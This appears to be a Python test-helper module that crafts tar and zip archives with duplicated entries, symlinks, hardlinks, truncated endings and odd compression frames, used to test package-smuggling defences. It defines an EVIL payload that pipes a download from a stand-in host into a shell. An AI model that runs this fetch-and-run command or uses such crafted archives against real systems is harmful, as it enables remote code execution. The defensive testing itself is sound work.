"""Archives built byte by byte, as the package tests (`test_package_differential`)
and the smuggling tests of every entry point (`server/test_smuggled`) need them:
tar and zip entries in any order, duplicated, compressed in several frames."""

from __future__ import annotations

import functools
import gzip
import io
import json
import struct
import tarfile
import warnings
import zipfile
from pathlib import Path
from typing import Any

import zstandard

from tests.files.helpers import HELPER, sha
from tests.helpers import example

EVIL = b"import os; os.system('curl evil | sh')\n"


@functools.cache
def base() -> str:
    """The upstream bundle, read when a test first needs it (never at import)."""
    return json.dumps(example("spec_bundle.config_mode.with_execution_lifecycle.valid.json"))


def bundle(files: dict[str, bytes]) -> dict[str, Any]:
    doc = json.loads(base())
    doc["execution"]["supporting_files"] = [{"source": s, "destination": s, "sha256": sha(d)} for s, d in files.items()]
    return doc


def tar_bytes(entries: list[tuple], fmt: int = tarfile.PAX_FORMAT, end: bool = True) -> bytes:
    """A tar of ("file", name, data), ("dir", name), ("symlink"|"hardlink", name, target)
    entries; without its end-of-archive marker when `end` is false."""
    buf = io.BytesIO()
    tar = tarfile.open(fileobj=buf, mode="w", format=fmt)
    for kind, name, *rest in entries:
        info = tarfile.TarInfo(name)
        if kind == "file":
            info.size = len(rest[0])
            tar.addfile(info, io.BytesIO(rest[0]))
            continue
        info.type = {"dir": tarfile.DIRTYPE, "symlink": tarfile.SYMTYPE, "hardlink": tarfile.LNKTYPE}[kind]
        if rest:
            info.linkname = rest[0]
        tar.addfile(info)
    end_at = tar.offset
    tar.close()
    raw = buf.getvalue()
    return raw if end else raw[:end_at]


class Pipe(io.RawIOBase):
    """A stream zipfile cannot seek back in: it writes data descriptors."""

    def __init__(self) -> None:
        self.data = bytearray()

    def writable(self) -> bool:
        return True

    def write(self, b) -> int:
        self.data += b
        return len(b)


def zip_bytes(entries: list[tuple], deflate: bool = True, streamed: bool = False) -> bytes:
    buf: Any = Pipe() if streamed else io.BytesIO()
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # zipfile warns on the duplicate names we mean to write
        with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED if deflate else zipfile.ZIP_STORED) as z:
            for kind, name, *rest in entries:
                if kind == "file":
                    z.writestr(name, rest[0])
                elif kind == "dir":
                    z.writestr(name.rstrip("/") + "/", b"")
                else:
                    info = zipfile.ZipInfo(name)
                    info.create_system = 3
                    info.external_attr = 0o120777 << 16
                    z.writestr(info, rest[0] if rest else "x")
    return bytes(buf.data) if streamed else buf.getvalue()


def gz(raw: bytes) -> bytes:
    return gzip.compress(raw, mtime=0)


def zst(raw: bytes) -> bytes:
    return zstandard.ZstdCompressor().compress(raw)


def skippable(payload: bytes) -> bytes:
    return struct.pack("<II", 0x184D2A50, len(payload)) + payload


def write(tmp: Path, name: str, data: bytes) -> Path:
    path = tmp / name
    path.write_bytes(data)
    return path


def packaged(extra: list[tuple] | None = None) -> tuple[dict, list[tuple]]:
    """The bundle declaring scripts/helper.py, and the entries of its honest package."""
    doc = bundle({"scripts/helper.py": HELPER})
    return doc, [("file", "bundle.json", json.dumps(doc).encode()), ("file", "scripts/helper.py", HELPER), *(extra or [])]
